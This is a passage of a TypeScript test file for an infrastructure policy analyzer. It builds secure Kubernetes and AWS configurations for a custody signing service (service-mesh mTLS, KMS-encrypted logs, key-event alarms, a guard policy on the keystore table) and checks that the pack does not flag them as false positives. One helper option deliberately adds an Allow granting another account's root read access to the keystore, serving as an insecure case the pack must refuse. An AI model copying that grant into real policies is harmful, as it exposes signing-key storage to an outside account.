// Red-team round 28 (fresh eyes) on false positives: secure variants of the committed stacks that a careful platform
// team would deploy beside the signer (Istio and Linkerd meshes, cert-manager certificates, Prometheus monitors and
// rules, a StatefulSet with storage, a VerticalPodAutoscaler, the CloudWatch observability add-on on Pod Identity in a
// first preview, an application log group under a dedicated key in a first preview, key-management alarms, share-key
// rotation periods, a guard resource policy on a table in a first preview) and a few insecure neighbours that must
// stay refused. Every secure case must pass the whole pack (no mandatory violation).
import { runPack } from "./packRunner";
import { assertClean, assertRefused, dependsOn, doc, find, prop, Resources, setProp, stackResources } from "./support";
import type { AnalyzerResourceInput } from "../../../tools/offline/analyzer";
import { aws, k8s, namespace, restricted, rootDelegation, serviceAccount, Statement } from "./variantBuilders";

const PRIMARY = "111111111111";
const REGION = "eu-west-1";
const ROLE = "aws:iam/role:Role";
const KEY = "aws:kms/key:Key";
const TABLE = "aws:dynamodb/table:Table";
const DEPLOY = "kubernetes:apps/v1:Deployment";
const UNKNOWN = "04da6b54-80e4-46f7-96ec-b56ff0331ba9";
const CLUSTER = "prod-validators";
const CLUSTER_ARN = `arn:aws:eks:${REGION}:${PRIMARY}:cluster/${CLUSTER}`;
const SIGNER_LOGS = "/custody/prod/containment-chamber";
const SIGNER_LOGS_ARN = `arn:aws:logs:${REGION}:${PRIMARY}:log-group:${SIGNER_LOGS}`;
const ALERTS = `arn:aws:sns:${REGION}:${PRIMARY}:custody-prod-key-events`;
const DEPLOYER = `arn:aws:iam::${PRIMARY}:role/custody-deployer`;
const CW_AGENT_POLICY = "arn:aws:iam::aws:policy/CloudWatchAgentServerPolicy";
const XRAY_POLICY = "arn:aws:iam::aws:policy/AWSXrayWriteOnlyAccess";

/** An EKS Pod Identity trust pinned to the cluster, namespace and ServiceAccount. */
const podIdentityTrust = (ns: string, sa: string): Statement => ({
    Effect: "Allow",
    Principal: { Service: "pods.eks.amazonaws.com" },
    Action: ["sts:AssumeRole", "sts:TagSession"],
    Condition: {
        StringEquals: {
            "aws:RequestTag/eks-cluster-arn": CLUSTER_ARN,
            "aws:RequestTag/kubernetes-namespace": ns,
            "aws:RequestTag/kubernetes-service-account": sa,
        },
    },
});

/** A restricted Deployment of the stack in `ns` running as `sa`, with these pod-template annotations. */
function restrictedDeployment(
    r: Resources,
    ns: string,
    name: string,
    sa: string,
    annotations: Record<string, string> = {},
): void {
    k8s(r, DEPLOY, `${ns}-${name}`, {
        apiVersion: "apps/v1",
        kind: "Deployment",
        metadata: { name, namespace: ns },
        spec: {
            replicas: 2,
            selector: { matchLabels: { app: name } },
            template: {
                metadata: { labels: { app: name }, annotations },
                spec: {
                    serviceAccountName: sa,
                    automountServiceAccountToken: false,
                    securityContext: { runAsNonRoot: true, seccompProfile: { type: "RuntimeDefault" } },
                    containers: [{ name, image: `registry.example.com/${name}:1.0.3`, securityContext: restricted }],
                },
            },
        },
    });
}

/**
 * Istio's security policies for the signer's namespace (istio.io, "Security policy examples", namespace isolation):
 * STRICT mTLS for every workload of validators, and an AuthorizationPolicy admitting only the monitoring namespace's
 * Prometheus to the signer's metrics port. Both only accept or drop connections at the proxies; no pod, role or
 * manifest.
 */
function istioPolicies(r: Resources): void {
    k8s(r, "kubernetes:security.istio.io/v1:PeerAuthentication", "validators-strict-mtls", {
        apiVersion: "security.istio.io/v1",
        kind: "PeerAuthentication",
        metadata: { name: "default", namespace: "validators" },
        spec: { mtls: { mode: "STRICT" } },
    });
    k8s(r, "kubernetes:security.istio.io/v1:AuthorizationPolicy", "validators-metrics-from-prometheus", {
        apiVersion: "security.istio.io/v1",
        kind: "AuthorizationPolicy",
        metadata: { name: "metrics-from-prometheus", namespace: "validators" },
        spec: {
            selector: { matchLabels: { "app.kubernetes.io/name": "containment-chamber" } },
            action: "ALLOW",
            rules: [
                {
                    from: [{ source: { principals: ["cluster.local/ns/monitoring/sa/prometheus"] } }],
                    to: [{ operation: { ports: ["9090"], methods: ["GET"], paths: ["/metrics"] } }],
                },
            ],
        },
    });
}

/**
 * Linkerd's authorization policy (linkerd.io, "Authorization Policy"): a Server on the signer's metrics port, a
 * MeshTLSAuthentication naming Prometheus's ServiceAccount, and an AuthorizationPolicy joining them.
 */
function linkerdPolicies(r: Resources): void {
    k8s(r, "kubernetes:policy.linkerd.io/v1beta3:Server", "validators-signer-metrics", {
        apiVersion: "policy.linkerd.io/v1beta3",
        kind: "Server",
        metadata: { name: "signer-metrics", namespace: "validators" },
        spec: {
            podSelector: { matchLabels: { "app.kubernetes.io/name": "containment-chamber" } },
            port: 9090,
            proxyProtocol: "HTTP/1",
        },
    });
    k8s(r, "kubernetes:policy.linkerd.io/v1alpha1:MeshTLSAuthentication", "validators-prometheus-identity", {
        apiVersion: "policy.linkerd.io/v1alpha1",
        kind: "MeshTLSAuthentication",
        metadata: { name: "prometheus", namespace: "validators" },
        spec: { identityRefs: [{ kind: "ServiceAccount", name: "prometheus", namespace: "monitoring" }] },
    });
    k8s(r, "kubernetes:policy.linkerd.io/v1alpha1:AuthorizationPolicy", "validators-signer-metrics-authz", {
        apiVersion: "policy.linkerd.io/v1alpha1",
        kind: "AuthorizationPolicy",
        metadata: { name: "signer-metrics", namespace: "validators" },
        spec: {
            targetRef: { group: "policy.linkerd.io", kind: "Server", name: "signer-metrics" },
            requiredAuthenticationRefs: [
                { group: "policy.linkerd.io", kind: "MeshTLSAuthentication", name: "prometheus" },
            ],
        },
    });
}

/** A self-signed root, a CA ClusterIssuer of it and a Certificate for the signer's metrics endpoint (cert-manager). */
function certManagerMetricsTls(r: Resources): void {
    k8s(r, "kubernetes:cert-manager.io/v1:ClusterIssuer", "selfsigned-root", {
        apiVersion: "cert-manager.io/v1",
        kind: "ClusterIssuer",
        metadata: { name: "selfsigned-root" },
        spec: { selfSigned: {} },
    });
    k8s(r, "kubernetes:cert-manager.io/v1:ClusterIssuer", "custody-internal-ca", {
        apiVersion: "cert-manager.io/v1",
        kind: "ClusterIssuer",
        metadata: { name: "custody-internal-ca" },
        spec: { ca: { secretName: "custody-internal-ca" } },
    });
    k8s(r, "kubernetes:cert-manager.io/v1:Certificate", "validators-signer-metrics-tls", {
        apiVersion: "cert-manager.io/v1",
        kind: "Certificate",
        metadata: { name: "signer-metrics-tls", namespace: "validators" },
        spec: {
            secretName: "signer-metrics-tls",
            duration: "2160h",
            renewBefore: "360h",
            privateKey: { algorithm: "ECDSA", size: 256, rotationPolicy: "Always" },
            usages: ["server auth"],
            dnsNames: ["containment-chamber.validators.svc", "containment-chamber.validators.svc.cluster.local"],
            issuerRef: { group: "cert-manager.io", kind: "ClusterIssuer", name: "custody-internal-ca" },
        },
    });
}

/** A ServiceMonitor on the signer's metrics Service and a PrometheusRule paging on signing errors and throttling. */
function signerMonitoring(r: Resources): void {
    k8s(r, "kubernetes:monitoring.coreos.com/v1:ServiceMonitor", "validators-signer-monitor", {
        apiVersion: "monitoring.coreos.com/v1",
        kind: "ServiceMonitor",
        metadata: { name: "containment-chamber", namespace: "validators", labels: { release: "prometheus" } },
        spec: {
            selector: { matchLabels: { "app.kubernetes.io/name": "containment-chamber" } },
            endpoints: [{ port: "metrics", interval: "30s", scheme: "http", path: "/metrics" }],
        },
    });
    k8s(r, "kubernetes:monitoring.coreos.com/v1:PrometheusRule", "validators-signer-rules", {
        apiVersion: "monitoring.coreos.com/v1",
        kind: "PrometheusRule",
        metadata: { name: "containment-chamber", namespace: "validators", labels: { release: "prometheus" } },
        spec: {
            groups: [
                {
                    name: "containment-chamber",
                    rules: [
                        {
                            alert: "SignerErrors",
                            expr: 'sum(rate(signer_requests_total{outcome="error"}[5m])) > 0',
                            for: "5m",
                            labels: { severity: "page" },
                            annotations: { summary: "The signer is failing to sign" },
                        },
                        {
                            alert: "SignerDynamoDBThrottled",
                            expr: "sum(rate(signer_dynamodb_throttles_total[5m])) > 0",
                            for: "10m",
                            labels: { severity: "ticket" },
                        },
                    ],
                },
            ],
        },
    });
}

/**
 * A slashing-protection PostgreSQL beside the signer in validators: its own ServiceAccount (no role), an encrypted gp3
 * StorageClass (EBS CSI), a restricted StatefulSet with a volume claim template, a PodDisruptionBudget.
 */
function slashingDb(r: Resources, sa = "slashing-db"): void {
    if (sa === "slashing-db") serviceAccount(r, "validators", "slashing-db");
    k8s(r, "kubernetes:storage.k8s.io/v1:StorageClass", "gp3-encrypted", {
        apiVersion: "storage.k8s.io/v1",
        kind: "StorageClass",
        metadata: { name: "gp3-encrypted" },
        provisioner: "ebs.csi.aws.com",
        volumeBindingMode: "WaitForFirstConsumer",
        allowVolumeExpansion: true,
        reclaimPolicy: "Retain",
        parameters: { type: "gp3", encrypted: "true", "csi.storage.k8s.io/fstype": "ext4" },
    });
    k8s(r, "kubernetes:apps/v1:StatefulSet", "validators-slashing-db", {
        apiVersion: "apps/v1",
        kind: "StatefulSet",
        metadata: { name: "slashing-db", namespace: "validators" },
        spec: {
            serviceName: "slashing-db",
            replicas: 1,
            selector: { matchLabels: { app: "slashing-db" } },
            template: {
                metadata: { labels: { app: "slashing-db" } },
                spec: {
                    serviceAccountName: sa,
                    automountServiceAccountToken: false,
                    securityContext: {
                        runAsNonRoot: true,
                        runAsUser: 999,
                        fsGroup: 999,
                        seccompProfile: { type: "RuntimeDefault" },
                    },
                    containers: [
                        {
                            name: "postgres",
                            image: "public.ecr.aws/docker/library/postgres:16.4",
                            ports: [{ name: "pg", containerPort: 5432 }],
                            env: [{ name: "PGDATA", value: "/var/lib/postgresql/data/pgdata" }],
                            securityContext: { ...restricted, runAsUser: 999, runAsGroup: 999 },
                            volumeMounts: [
                                { name: "data", mountPath: "/var/lib/postgresql/data" },
                                { name: "run", mountPath: "/var/run/postgresql" },
                                { name: "tmp", mountPath: "/tmp" },
                            ],
                        },
                    ],
                    volumes: [
                        { name: "run", emptyDir: {} },
                        { name: "tmp", emptyDir: {} },
                    ],
                },
            },
            volumeClaimTemplates: [
                {
                    metadata: { name: "data" },
                    spec: {
                        accessModes: ["ReadWriteOnce"],
                        storageClassName: "gp3-encrypted",
                        resources: { requests: { storage: "20Gi" } },
                    },
                },
            ],
        },
    });
    k8s(r, "kubernetes:policy/v1:PodDisruptionBudget", "validators-slashing-db-pdb", {
        apiVersion: "policy/v1",
        kind: "PodDisruptionBudget",
        metadata: { name: "slashing-db", namespace: "validators" },
        spec: { maxUnavailable: 0, selector: { matchLabels: { app: "slashing-db" } } },
    });
}

/**
 * The amazon-cloudwatch-observability add-on on EKS Pod Identity (EKS user guide, "Install the CloudWatch agent with
 * the Amazon CloudWatch Observability EKS add-on"): a role of the stack trusted for amazon-cloudwatch/cloudwatch-agent
 * with CloudWatchAgentServerPolicy and AWSXrayWriteOnlyAccess, and the eks-pod-identity-agent add-on. In a first
 * preview the role's ARN (and the association's roleArn) is unknown, recorded as coming from the role; `from` names the
 * role the association's unknown comes from.
 */
function cloudwatchObservability(r: Resources, preview: boolean, from?: AnalyzerResourceInput): void {
    const name = "custody-pod-identity-cloudwatch-agent";
    const role = aws(r, ROLE, name, {
        name,
        arn: preview ? UNKNOWN : `arn:aws:iam::${PRIMARY}:role/${name}`,
        assumeRolePolicy: doc(podIdentityTrust("amazon-cloudwatch", "cloudwatch-agent")),
    });
    for (const p of [CW_AGENT_POLICY, XRAY_POLICY])
        aws(r, "aws:iam/rolePolicyAttachment:RolePolicyAttachment", `${name}-${p.split("/").pop()}`, {
            role: name,
            policyArn: p,
        });
    aws(r, "aws:eks/addon:Addon", "pod-identity-agent", {
        clusterName: CLUSTER,
        addonName: "eks-pod-identity-agent",
        addonVersion: "v1.3.4-eksbuild.1",
    });
    const addon = aws(r, "aws:eks/addon:Addon", "cloudwatch-observability", {
        clusterName: CLUSTER,
        addonName: "amazon-cloudwatch-observability",
        addonVersion: "v2.6.0-eksbuild.1",
        podIdentityAssociations: [
            {
                roleArn: preview ? UNKNOWN : `arn:aws:iam::${PRIMARY}:role/${name}`,
                serviceAccount: "cloudwatch-agent",
            },
        ],
    });
    if (preview) dependsOn(addon, "podIdentityAssociations", from ?? role);
}

/**
 * The signer's application log group under a key of the stack dedicated to it (CloudWatch Logs user guide, "Encrypt
 * log data in CloudWatch Logs using AWS KMS": logs.<region> pinned by kms:EncryptionContext:aws:logs:arn), 400-day
 * retention. In a first preview the key's ARN is unknown and the log group's kmsKeyId is recorded as coming from it
 * (`from` "key"), from a random.RandomShuffle of key ARNs (the log group also dependsOn the key), or from nothing.
 * `direct` adds a statement of the signer's inline policy decrypting with the key directly.
 */
function signerLogGroup(
    r: Resources,
    preview: boolean,
    direct = false,
    from: "key" | "shuffle" | "nothing" = "key",
): void {
    const keyId = "5e6f7a8b-9c0d-4e1f-a2b3-c4d5e6f7a8b9";
    const arn = `arn:aws:kms:${REGION}:${PRIMARY}:key/${keyId}`;
    const key = aws(r, KEY, "signer-logs-key", {
        description: "CloudWatch Logs encryption for the signer's application logs",
        keyId: preview ? UNKNOWN : keyId,
        arn: preview ? UNKNOWN : arn,
        customerMasterKeySpec: "SYMMETRIC_DEFAULT",
        keyUsage: "ENCRYPT_DECRYPT",
        enableKeyRotation: true,
        rotationPeriodInDays: 180,
        deletionWindowInDays: 30,
        isEnabled: true,
        policy: doc(rootDelegation(PRIMARY), {
            Sid: "AllowCloudWatchLogs",
            Effect: "Allow",
            Principal: { Service: `logs.${REGION}.amazonaws.com` },
            Action: ["kms:Encrypt*", "kms:Decrypt*", "kms:ReEncrypt*", "kms:GenerateDataKey*", "kms:Describe*"],
            Resource: "*",
            Condition: { ArnEquals: { "kms:EncryptionContext:aws:logs:arn": SIGNER_LOGS_ARN } },
        }),
    });
    key.options = { protect: true, retainOnDelete: true } as AnalyzerResourceInput["options"];
    aws(r, "aws:kms/alias:Alias", "signer-logs-key-alias", {
        name: "alias/custody-infra/prod/signer-logs",
        targetKeyId: preview ? UNKNOWN : keyId,
        arn: `arn:aws:kms:${REGION}:${PRIMARY}:alias/custody-infra/prod/signer-logs`,
    });
    const group = aws(r, "aws:cloudwatch/logGroup:LogGroup", "signer-logs", {
        name: SIGNER_LOGS,
        arn: preview ? UNKNOWN : SIGNER_LOGS_ARN,
        retentionInDays: 400,
        kmsKeyId: preview ? UNKNOWN : arn,
    });
    if (preview) {
        if (from === "key") dependsOn(group, "kmsKeyId", key);
        if (from === "shuffle") {
            const pick = shuffle(r, "signer-logs-key-pick", [arn, `arn:aws:kms:${REGION}:${PRIMARY}:key/${UNKNOWN}`]);
            const withDeps = group as AnalyzerResourceInput & {
                dependencies?: string[];
                propertyDependencies?: Record<string, string[]>;
            };
            // dependsOn: [key] keeps the key among its dependencies; the value comes from the shuffle.
            withDeps.dependencies = [key.urn, pick.urn];
            withDeps.propertyDependencies = { kmsKeyId: [pick.urn] };
        }
        const alias = find(r, "aws:kms/alias:Alias", "signer-logs-key-alias");
        dependsOn(alias, "targetKeyId", key);
    }
    const readOwnLogs: Statement = {
        Sid: "ReadOwnLogs",
        Effect: "Allow",
        Action: ["kms:Decrypt"],
        Resource: preview ? `arn:aws:kms:${REGION}:${PRIMARY}:key/*` : arn,
    };
    // In a first preview the signer's own inline document is unknown (it names the tables' and shares' ARNs): the
    // grant is a RolePolicy of its own, written with the account's key ARN pattern.
    if (direct && preview)
        aws(r, "aws:iam/rolePolicy:RolePolicy", "signer-read-logs", {
            name: "custody-prod-signer-read-logs",
            role: "custody-prod-signer",
            policy: doc(readOwnLogs),
        });
    else if (direct) {
        const access = find(r, "aws:iam/rolePolicy:RolePolicy", "signer-role-access");
        const d = JSON.parse(prop(access, "policy") as string) as { Statement: Statement[] };
        d.Statement.push(readOwnLogs);
        setProp(access, "policy", JSON.stringify(d));
    }
}

/**
 * An EventBridge rule on the account's KMS key-management events for the stack's keys (ScheduleKeyDeletion,
 * DisableKey, PutKeyPolicy, CreateGrant...; CloudTrail management events on the default bus) notifying an SNS topic of
 * the stack (AWS's managed alias/aws/sns; topic policy for events.amazonaws.com pinned by aws:SourceArn). No role:
 * EventBridge publishes to SNS through the topic policy (EventBridge user guide, "Amazon SNS permissions"). In a first
 * preview the topic's ARN and the rule's ARN are unknown outputs.
 */
function keyEventAlarms(r: Resources, preview: boolean): void {
    const rule = `arn:aws:events:${REGION}:${PRIMARY}:rule/custody-prod-key-events`;
    const topic = aws(r, "aws:sns/topic:Topic", "key-events", {
        name: "custody-prod-key-events",
        arn: preview ? UNKNOWN : ALERTS,
        kmsMasterKeyId: "alias/aws/sns",
    });
    const ev = aws(r, "aws:cloudwatch/eventRule:EventRule", "key-events", {
        name: "custody-prod-key-events",
        arn: preview ? UNKNOWN : rule,
        eventPattern: JSON.stringify({
            source: ["aws.kms"],
            "detail-type": ["AWS API Call via CloudTrail"],
            detail: {
                eventSource: ["kms.amazonaws.com"],
                eventName: [
                    "ScheduleKeyDeletion",
                    "DisableKey",
                    "PutKeyPolicy",
                    "CreateGrant",
                    "DisableKeyRotation",
                    "UpdateAlias",
                    "DeleteAlias",
                ],
            },
        }),
    });
    const policy = aws(r, "aws:sns/topicPolicy:TopicPolicy", "key-events-policy", {
        arn: preview ? UNKNOWN : ALERTS,
        policy: preview
            ? UNKNOWN
            : doc({
                  Sid: "EventBridgePublish",
                  Effect: "Allow",
                  Principal: { Service: "events.amazonaws.com" },
                  Action: "sns:Publish",
                  Resource: ALERTS,
                  Condition: { ArnEquals: { "aws:SourceArn": rule } },
              }),
    });
    const target = aws(r, "aws:cloudwatch/eventTarget:EventTarget", "key-events-to-sns", {
        rule: "custody-prod-key-events",
        targetId: "sns",
        arn: preview ? UNKNOWN : ALERTS,
    });
    aws(r, "aws:cloudwatch/metricAlarm:MetricAlarm", "key-events-delivery-failures", {
        name: "custody-prod-key-events-failed-invocations",
        namespace: "AWS/Events",
        metricName: "FailedInvocations",
        dimensions: { RuleName: "custody-prod-key-events" },
        statistic: "Sum",
        period: 300,
        evaluationPeriods: 1,
        threshold: 0,
        comparisonOperator: "GreaterThanThreshold",
        treatMissingData: "notBreaching",
        alarmActions: [preview ? UNKNOWN : ALERTS],
    });
    if (preview) {
        dependsOn(policy, "arn", topic);
        dependsOn(policy, "policy", topic);
        dependsOn(policy, "policy", ev);
        dependsOn(target, "arn", topic);
        const alarm = find(r, "aws:cloudwatch/metricAlarm:MetricAlarm", "key-events-delivery-failures");
        dependsOn(alarm, "alarmActions", topic);
    }
}

/**
 * A guard resource policy on the keystore (DynamoDB developer guide, "Using resource-based policies for DynamoDB"):
 * everyone but the deployer denied table administration. In a first preview the table's ARN is unknown and the
 * policy's resourceArn (and the ARN inside the document) is recorded as coming from the table. `extraAllow` adds an
 * Allow of reads to another account's root.
 */
function keystoreGuard(r: Resources, preview: boolean, extraAllow = false): void {
    const table = find(r, TABLE, "signer-tables-keystore");
    const arn = preview ? "*" : (prop(table, "arn") as string);
    const statements: Statement[] = [
        {
            Sid: "OnlyTheDeployerAdministers",
            Effect: "Deny",
            Principal: "*",
            Action: [
                "dynamodb:DeleteTable",
                "dynamodb:UpdateTable",
                "dynamodb:PutResourcePolicy",
                "dynamodb:DeleteResourcePolicy",
                "dynamodb:UpdateContinuousBackups",
                "dynamodb:RestoreTableToPointInTime",
                "dynamodb:ExportTableToPointInTime",
            ],
            Resource: arn,
            Condition: { ArnNotEquals: { "aws:PrincipalArn": DEPLOYER } },
        },
    ];
    if (extraAllow)
        statements.push({
            Sid: "DrReads",
            Effect: "Allow",
            Principal: { AWS: "arn:aws:iam::999999999999:root" },
            Action: ["dynamodb:GetItem", "dynamodb:Query"],
            Resource: arn,
        });
    const policy = aws(r, "aws:dynamodb/resourcePolicy:ResourcePolicy", "keystore-guard", {
        resourceArn: preview ? UNKNOWN : arn,
        policy: preview ? UNKNOWN : doc(...statements),
    });
    if (preview) {
        dependsOn(policy, "resourceArn", table);
        dependsOn(policy, "policy", table);
        // With `extraAllow` the document is written with the table's literal ARN (name, account and Region known):
        // only resourceArn is unknown.
        if (extraAllow) {
            const literal = `arn:aws:dynamodb:${REGION}:${PRIMARY}:table/custody-prod-keystore`;
            setProp(policy, "policy", doc(...statements.map(x => ({ ...x, Resource: literal }))));
        }
    }
}

/** A random.RandomShuffle of strings (its result comes out only at `up`: unknown in a first preview). */
function shuffle(r: Resources, name: string, inputs: string[]): AnalyzerResourceInput {
    const like = r.find(x => x.type === ROLE);
    if (!like) throw new Error("no role in the fixture");
    const res = {
        urn: `${like.urn.split("::").slice(0, 2).join("::")}::random:index/randomShuffle:RandomShuffle::${name}`,
        type: "random:index/randomShuffle:RandomShuffle",
        name,
        inputs: { inputs, resultCount: 1 },
        outputs: { inputs, resultCount: 1, results: UNKNOWN },
    } as unknown as AnalyzerResourceInput;
    r.push(res);
    return res;
}

/**
 * A release-artifacts bucket whose default encryption (BucketServerSideEncryptionConfigurationV2, SSE-KMS with a bucket
 * key) is a key of the stack dedicated to it: its policy only delegates to the account's IAM policies, and no
 * identity of the stack is granted the key (S3 user guide, "Using server-side encryption with AWS KMS keys"). In a
 * first preview the key's ARN is unknown and the rules are recorded as coming from it.
 */
function artifactsBucket(r: Resources, preview: boolean): void {
    const keyId = "0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d";
    const arn = `arn:aws:kms:${REGION}:${PRIMARY}:key/${keyId}`;
    const key = aws(r, KEY, "artifacts-key", {
        description: "SSE-KMS for the release-artifacts bucket",
        keyId: preview ? UNKNOWN : keyId,
        arn: preview ? UNKNOWN : arn,
        customerMasterKeySpec: "SYMMETRIC_DEFAULT",
        keyUsage: "ENCRYPT_DECRYPT",
        enableKeyRotation: true,
        deletionWindowInDays: 30,
        isEnabled: true,
        // The account's principals through S3 only (the aws/s3 managed key's policy: kms:ViaService and
        // kms:CallerAccount).
        policy: doc(rootDelegation(PRIMARY), {
            Sid: "AllowThroughS3",
            Effect: "Allow",
            Principal: { AWS: "*" },
            Action: ["kms:Encrypt", "kms:Decrypt", "kms:ReEncrypt*", "kms:GenerateDataKey*", "kms:DescribeKey"],
            Resource: "*",
            Condition: {
                StringEquals: { "kms:ViaService": `s3.${REGION}.amazonaws.com`, "kms:CallerAccount": PRIMARY },
            },
        }),
    });
    key.options = { protect: true, retainOnDelete: true } as AnalyzerResourceInput["options"];
    aws(r, "aws:s3/bucketV2:BucketV2", "release-artifacts", {
        bucket: "custody-prod-release-artifacts",
        arn: "arn:aws:s3:::custody-prod-release-artifacts",
    });
    const sse = aws(
        r,
        "aws:s3/bucketServerSideEncryptionConfigurationV2:BucketServerSideEncryptionConfigurationV2",
        "release-artifacts-sse",
        {
            bucket: "custody-prod-release-artifacts",
            rules: [
                {
                    bucketKeyEnabled: true,
                    applyServerSideEncryptionByDefault: {
                        sseAlgorithm: "aws:kms",
                        kmsMasterKeyId: preview ? UNKNOWN : arn,
                    },
                },
            ],
        },
    );
    if (preview) dependsOn(sse, "rules", key);
}

type Case = {
    stack: string;
    name: string;
    edit: (r: Resources) => void;
    preview?: boolean;
    refused?: RegExp;
    policy?: string;
    readable?: string[];
    skip?: boolean;
};

const secure: Case[] = [
    {
        // Was a MISS (fixed in round 28): Istio's PeerAuthentication (STRICT mTLS) and AuthorizationPolicy (ALLOW from
        // one SPIFFE principal) only make the namespace's proxies demand client certificates and drop other
        // connections: istiod turns them into Envoy listener/RBAC filter config, no pod, RoleBinding or manifest
        // (istio.io "Security policy examples", namespace isolation; PeerAuthentication CRD: "how traffic will be
        // tunneled (or not) to the sidecar"). Now on engine/customResources.ts INERT_CUSTOM_RESOURCES by kind
        // (security.istio.io PeerAuthentication, AuthorizationPolicy, RequestAuthentication), like Cilium/Calico.
        stack: "prod",
        name: "Istio STRICT mTLS for validators (PeerAuthentication) and an AuthorizationPolicy admitting only monitoring/prometheus to the signer's metrics port",
        edit: istioPolicies,
    },
    {
        // Was a MISS (fixed in round 28): Linkerd's Server, MeshTLSAuthentication and AuthorizationPolicy
        // (policy.linkerd.io) only tell the linkerd-proxy which clients (by mesh identity) may reach a port (linkerd.io
        // "Authorization Policy"): traffic allow/deny. Now inert by kind (engine/customResources.ts: Server,
        // ServerAuthorization, MeshTLSAuthentication, NetworkAuthentication, AuthorizationPolicy, HTTPRoute).
        stack: "prod",
        name: "Linkerd authorization for the signer's metrics port: a Server, a MeshTLSAuthentication of monitoring/prometheus and an AuthorizationPolicy",
        edit: linkerdPolicies,
    },
    {
        // Was a MISS (fixed in round 28): `linkerd.io/inject: enabled` is Linkerd's counterpart of
        // `sidecar.istio.io/inject: "true"`: the proxy-injector adds linkerd-init (iptables; absent with linkerd-cni)
        // and linkerd-proxy, the mesh's own image, non-root (linkerd.io "Automatic Proxy Injection", "CNI Plugin"), and
        // `config.linkerd.io/proxy-{cpu,memory}-request` only size it (linkerd.io reference "Proxy Configuration").
        // Now on engine/podSpec.ts's pod-annotation allowlist (inject enabled or disabled; the proxy's CPU and memory
        // requests and limits); every other config.linkerd.io key stays refused.
        stack: "prod",
        name: "a restricted Deployment in apps meshed by Linkerd (linkerd.io/inject: enabled, proxy CPU/memory requests)",
        edit: r => {
            namespace(r, "apps");
            serviceAccount(r, "apps", "reports-api");
            restrictedDeployment(r, "apps", "reports-api", "reports-api", {
                "linkerd.io/inject": "enabled",
                "config.linkerd.io/proxy-cpu-request": "50m",
                "config.linkerd.io/proxy-memory-request": "64Mi",
            });
        },
    },
    // ---- Round 28 neighbours of the fixed MISSes (secure: other spellings of the same shapes).
    {
        // DECIDED: an AuthorizationPolicy with action CUSTOM names an external authorizer by provider name only; the
        // authorizer (address, headers and body sent) is an extension provider of the mesh config, outside the stack,
        // and the CUSTOM check runs first and only denies (istio.io "Authorization Policy", "External Authorization").
        // It starts no pod and lends no identity, so it is inert like ALLOW and DENY. A RequestAuthentication only
        // validates JWTs at the proxies (istiod fetches the jwksUri's public keys; IST0175 hardening is the cluster's).
        stack: "prod",
        name: "Istio v1beta1 spellings: a RequestAuthentication (JWTs of the corporate IdP) and a CUSTOM AuthorizationPolicy delegating /admin to the mesh's oauth2-proxy authorizer",
        edit: r => {
            k8s(r, "kubernetes:security.istio.io/v1beta1:RequestAuthentication", "validators-corporate-jwt", {
                apiVersion: "security.istio.io/v1beta1",
                kind: "RequestAuthentication",
                metadata: { name: "corporate-jwt", namespace: "validators" },
                spec: {
                    selector: { matchLabels: { "app.kubernetes.io/name": "containment-chamber" } },
                    jwtRules: [
                        {
                            issuer: "https://login.example.com/",
                            jwksUri: "https://login.example.com/.well-known/jwks.json",
                            audiences: ["custody-admin"],
                        },
                    ],
                },
            });
            k8s(r, "kubernetes:security.istio.io/v1beta1:AuthorizationPolicy", "validators-admin-ext-authz", {
                apiVersion: "security.istio.io/v1beta1",
                kind: "AuthorizationPolicy",
                metadata: { name: "admin-ext-authz", namespace: "validators" },
                spec: {
                    selector: { matchLabels: { "app.kubernetes.io/name": "containment-chamber" } },
                    action: "CUSTOM",
                    provider: { name: "oauth2-proxy" },
                    rules: [{ to: [{ operation: { paths: ["/admin/*"] } }] }],
                },
            });
            k8s(r, "kubernetes:security.istio.io/v1beta1:PeerAuthentication", "istio-system-mesh-strict", {
                apiVersion: "security.istio.io/v1beta1",
                kind: "PeerAuthentication",
                metadata: { name: "default", namespace: "istio-system" },
                spec: { mtls: { mode: "STRICT" } },
            });
        },
    },
    {
        stack: "prod",
        name: "Linkerd's older and route spellings: a ServerAuthorization (v1beta1), a NetworkAuthentication of the cluster's pod CIDR and an HTTPRoute for /metrics",
        edit: r => {
            k8s(r, "kubernetes:policy.linkerd.io/v1beta1:ServerAuthorization", "validators-signer-metrics-saz", {
                apiVersion: "policy.linkerd.io/v1beta1",
                kind: "ServerAuthorization",
                metadata: { name: "signer-metrics-prometheus", namespace: "validators" },
                spec: {
                    server: { name: "signer-metrics" },
                    client: { meshTLS: { serviceAccounts: [{ name: "prometheus", namespace: "monitoring" }] } },
                },
            });
            k8s(r, "kubernetes:policy.linkerd.io/v1alpha1:NetworkAuthentication", "validators-pod-network", {
                apiVersion: "policy.linkerd.io/v1alpha1",
                kind: "NetworkAuthentication",
                metadata: { name: "pod-network", namespace: "validators" },
                spec: { networks: [{ cidr: "10.0.0.0/16" }] },
            });
            k8s(r, "kubernetes:policy.linkerd.io/v1beta3:HTTPRoute", "validators-signer-metrics-route", {
                apiVersion: "policy.linkerd.io/v1beta3",
                kind: "HTTPRoute",
                metadata: { name: "signer-metrics", namespace: "validators" },
                spec: {
                    parentRefs: [{ group: "policy.linkerd.io", kind: "Server", name: "signer-metrics" }],
                    rules: [{ matches: [{ path: { type: "Exact", value: "/metrics" }, method: "GET" }] }],
                },
            });
        },
    },
    {
        stack: "prod",
        name: "restricted Deployments in apps: one meshed by Linkerd with proxy CPU/memory limits, one opted out (linkerd.io/inject: disabled)",
        edit: r => {
            namespace(r, "apps");
            serviceAccount(r, "apps", "reports-api");
            serviceAccount(r, "apps", "reports-batch");
            restrictedDeployment(r, "apps", "reports-api", "reports-api", {
                "linkerd.io/inject": "enabled",
                "config.linkerd.io/proxy-cpu-limit": "1",
                "config.linkerd.io/proxy-memory-limit": "256Mi",
                "config.linkerd.io/proxy-cpu-request": "100m",
                "config.linkerd.io/proxy-memory-request": "128Mi",
            });
            restrictedDeployment(r, "apps", "reports-batch", "reports-batch", { "linkerd.io/inject": "disabled" });
        },
    },
    {
        // The same dedicated-key resolution through a use whose key sits inside a list input (rules[]...kmsMasterKeyId:
        // the engine records the dependency under `rules`).
        stack: "prod",
        preview: true,
        name: "a release-artifacts bucket's SSE-KMS default encryption under a key of the stack usable only through S3, in a first preview (the rules' kmsMasterKeyId unknown, from the key)",
        edit: r => artifactsBucket(r, true),
    },
    {
        stack: "prod",
        name: "the same release-artifacts bucket under its S3-only key at `up`",
        edit: r => artifactsBucket(r, false),
    },
    {
        stack: "prod",
